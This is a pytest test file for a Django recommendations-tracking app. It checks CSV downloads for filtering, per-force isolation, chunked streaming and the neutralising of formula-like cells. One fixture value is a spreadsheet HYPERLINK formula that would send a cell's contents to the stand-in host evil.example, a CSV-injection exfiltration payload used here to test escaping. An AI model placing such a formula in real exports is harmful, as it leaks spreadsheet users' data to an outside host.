"""CSV downloads of every list: a header row, one row per item matching the current filters,
a download (attachment), formula-like cells neutralised, never another force's items."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from recommendations.models import Status
from tests import factories

pytestmark = pytest.mark.django_db

ITEM_HEADER = [
    "Force",
    "Inspection",
    "Published",
    "Kind",
    "Reference",
    "Text",
    "Deadline rule",
    "Due date",
    "Original due date",
    "Extensions",
    "Status",
    "Overdue (days)",
    "RAG",
    "Owner",
    "Submitted for review",
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture(autouse=True)
def _fixed_today():
    with time_machine.travel(date(2024, 6, 1), tick=False):
        yield


def _at(day: date) -> datetime:
    return timezone.make_aware(datetime(day.year, day.month, day.day, 12))


@pytest.fixture
def data(force, other_force, owner, inspector):
    first = factories.InspectionFactory(
        force=force, title="PEEL 2023", published_on=date(2023, 3, 1)
    )
    second = factories.InspectionFactory(force=force, title="CDI", published_on=date(2023, 9, 1))
    tricky_owner = factories.ActionOwnerFactory(force=force, first_name="-2+3", last_name="Smith")
    make = factories.ItemFactory
    make(
        inspection=first,
        reference="A-1",
        due_on=date(2024, 5, 1),
        submitted_at=_at(date(2024, 5, 20)),
    )
    make(
        inspection=first,
        reference="A-2",
        due_on=date(2024, 6, 20),
        status=Status.BEING_PROGRESSED,
        owner=owner,
    )
    make(inspection=second, reference="A-3", due_on=date(2024, 1, 1), status=Status.COMPLETE)
    make(
        inspection=second,
        reference="@SUM(1+1)",
        text=FORMULA,
        due_on=date(2024, 12, 1),
        submitted_at=_at(date(2024, 5, 1)),
        owner=tricky_owner,
    )
    factories.AreaForImprovementFactory(
        inspection=second, reference="A-5", status=Status.BEING_PROGRESSED
    )
    other = factories.InspectionFactory(force=other_force, title="Northshire secret")
    make(inspection=other, reference="B-SECRET-1")
    make(inspection=other, reference="B-SECRET-2", status=Status.BEING_PROGRESSED)
    factories.MonitoringStageChangeFactory(force=force, stage="engage", started_on=date(2024, 2, 1))
    return {"first": first, "second": second}


def download(client, url: str, **params) -> list[list[str]]:
    response = client.get(url, {**params, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    assert response["Content-Disposition"].endswith('-2024-06-01.csv"')
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    assert "SECRET" not in text and "Northshire" not in text
    return list(csv.reader(io.StringIO(text[1:])))


def refs(rows) -> list[str]:
    return [row[ITEM_HEADER.index("Reference")] for row in rows[1:]]


ITEMS = reverse("recommendations:item-list")


def test_item_list_csv_follows_the_filters(client, data, lead):
    client.force_login(lead)
    rows = download(client, ITEMS)
    assert rows[0] == ITEM_HEADER
    assert refs(rows) == ["A-1", "A-2", "'@SUM(1+1)", "A-5"]  # open, most urgent first
    assert sorted(refs(download(client, ITEMS, status="all"))) == sorted(
        ["A-1", "A-2", "A-3", "'@SUM(1+1)", "A-5"]
    )
    assert refs(download(client, ITEMS, status="awaiting-review")) == ["A-1", "'@SUM(1+1)"]
    assert refs(download(client, ITEMS, status="complete")) == ["A-3"]
    assert refs(download(client, ITEMS, due="overdue")) == ["A-1"]
    assert refs(download(client, ITEMS, due="30")) == ["A-2"]
    assert refs(download(client, ITEMS, kind="area-for-improvement")) == ["A-5"]
    assert refs(download(client, ITEMS, inspection=data["first"].pk)) == ["A-1", "A-2"]
    assert refs(download(client, ITEMS, q="A-2")) == ["A-2"]


def test_item_csv_row_content(client, data, lead, owner):
    client.force_login(lead)
    row = dict(zip(ITEM_HEADER, download(client, ITEMS, status="all")[1], strict=True))
    assert row == {
        "Force": "Cleveland Police",
        "Inspection": "PEEL 2023",
        "Published": "2023-03-01",
        "Kind": "Recommendation",
        "Reference": "A-1",
        "Text": "Within three months, the force should review its crime recording.",
        "Deadline rule": "Relative (within a period)",
        "Due date": "2024-05-01",
        "Original due date": "2024-05-01",
        "Extensions": "0",
        "Status": "Awaiting review",
        "Overdue (days)": "31",
        "RAG": "Overdue",
        "Owner": "",
        "Submitted for review": "2024-05-20",
    }


def test_formula_cells_are_neutralised(client, data, lead):
    client.force_login(lead)
    rows = download(client, ITEMS, status="awaiting-review")
    tricky = dict(zip(ITEM_HEADER, rows[2], strict=True))
    assert tricky["Text"] == "'" + FORMULA
    assert tricky["Reference"] == "'@SUM(1+1)"
    assert tricky["Owner"] == "'-2+3 Smith"
    for row in rows[1:]:
        assert all(cell[:1] not in "=+-@" or cell == "" for cell in row), row


def test_dashboard_csv_follows_the_filters(client, data, force, lead, inspector):
    url = reverse("recommendations:force-dashboard", args=[force.slug])
    for user in (lead, inspector):
        client.force_login(user)
        rows = download(client, url)
        assert rows[0] == ITEM_HEADER
        assert refs(rows) == ["A-1", "A-2", "'@SUM(1+1)", "A-5"]
        assert refs(download(client, url, status="being-progressed")) == ["A-2", "A-5"]


def test_review_queue_csv_is_oldest_submission_first(client, data, inspector):
    client.force_login(inspector)
    rows = download(client, reverse("recommendations:review-queue"))
    assert rows[0] == ITEM_HEADER
    assert refs(rows) == ["'@SUM(1+1)", "A-1"]


def test_force_overview_csv(client, data, force, lead, inspector):
    elsewhere = factories.ForceFactory(name="Elsewhere Constabulary")
    inspector.inspected_forces.add(elsewhere)
    factories.ItemFactory(inspection__force=elsewhere, status=Status.BEING_PROGRESSED)
    client.force_login(inspector)
    rows = download(client, reverse("recommendations:force-overview"))
    assert rows == [
        ["Force", "Monitoring stage", "Stage since", "Open", "Overdue", "Awaiting review"],
        ["Cleveland Police", "engage", "2024-02-01", "4", "1", "2"],
        ["Elsewhere Constabulary", "", "", "1", "1", "0"],
    ]
    client.force_login(lead)
    assert [row[0] for row in download(client, reverse("recommendations:force-overview"))] == [
        "Force",
        "Cleveland Police",
    ]


def test_inspection_csv_lists_its_items(client, data, lead):
    client.force_login(lead)
    url = reverse("recommendations:inspection-detail", args=[data["second"].pk])
    rows = download(client, url)
    assert rows[0] == ITEM_HEADER
    assert sorted(refs(rows)) == sorted(["A-3", "'@SUM(1+1)", "A-5"])
    assert {row[1] for row in rows[1:]} == {"CDI"}


def test_another_forces_items_never_appear(client, data, force, other_force, other_lead):
    """Every CSV as the other force's lead: only Northshire, and force A's lists are 404."""
    client.force_login(other_lead)
    response = client.get(ITEMS, {"status": "all", "format": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert "B-SECRET-1" in text and "B-SECRET-2" in text
    assert "A-1" not in text and "Cleveland" not in text
    for url in (
        reverse("recommendations:force-dashboard", args=[force.slug]),
        reverse("recommendations:inspection-detail", args=[data["first"].pk]),
    ):
        assert client.get(url, {"format": "csv"}).status_code == 404
    # A filter naming force A's inspection cannot widen the list either.
    response = client.get(ITEMS, {"inspection": data["first"].pk, "format": "csv"})
    assert "Cleveland" not in b"".join(response.streaming_content).decode()


def test_an_inspector_of_force_a_never_gets_force_b(client, data, inspector):
    client.force_login(inspector)
    for url in (ITEMS, reverse("recommendations:review-queue")):
        download(client, url, status="all")  # download() asserts no SECRET row


def test_a_download_in_many_chunks_has_every_row_once(client, data, lead, monkeypatch):
    from recommendations.views import common

    monkeypatch.setattr(common, "CSV_ROWS_PER_CHUNK", 2)
    client.force_login(lead)
    response = client.get(ITEMS, {"status": "all", "format": "csv"})
    chunks = list(response.streaming_content)

    assert len(chunks) == 3  # the header with two rows, two rows, the last row
    rows = list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8")[1:])))
    assert sorted(refs(rows)) == sorted(["A-1", "A-2", "A-3", "'@SUM(1+1)", "A-5"])
